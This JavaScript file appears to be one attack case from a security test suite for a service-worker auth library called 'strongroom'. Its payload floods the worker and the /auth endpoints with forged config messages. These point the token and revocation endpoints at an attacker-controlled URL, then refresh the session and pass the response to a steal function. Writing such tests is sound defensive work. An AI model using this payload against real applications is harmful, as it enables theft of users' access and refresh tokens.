import { attack } from "../attack.js";

export default attack({
  name: "reconfigures the worker by message and request",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const api = [{ url: `${it.attackerUrl}/` }, { url: `${it.siblingUrl}/` }, { url: it.apiUrl }];
    const provider = {
      tokenEndpoint: `${it.attackerUrl}/token`,
      revocationEndpoint: `${it.attackerUrl}/revoke`,
    };
    const config = { api, provider, sessionClaims: ["access_token", "refresh_token", "jti"], basePath: "/" };
    const worker = navigator.serviceWorker.controller;
    for (const type of [
      "init",
      "start",
      "config",
      "configure",
      "setConfig",
      "update",
      "strongroom:config",
      "reset",
    ]) {
      for (const message of [
        { type, config },
        { type, ...config },
        { type, payload: config },
        { [type]: config },
        [type, config],
      ]) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        worker?.postMessage(message, [port2]);
      }
      await fetch(`/auth/${type}?${new URLSearchParams({ config: JSON.stringify(config) })}`).catch(() => {});
      await fetch(`/auth/${type}`, { method: "POST", body: JSON.stringify(config) }).catch(() => {});
    }
    await it.pause(200);
    for (const home of [it.attackerUrl, it.siblingUrl]) await fetch(`${home}/configured`).catch(() => {});
    const session = await fetch("/auth/refresh", { method: "POST" });
    it.steal(await session.text());
  },
});
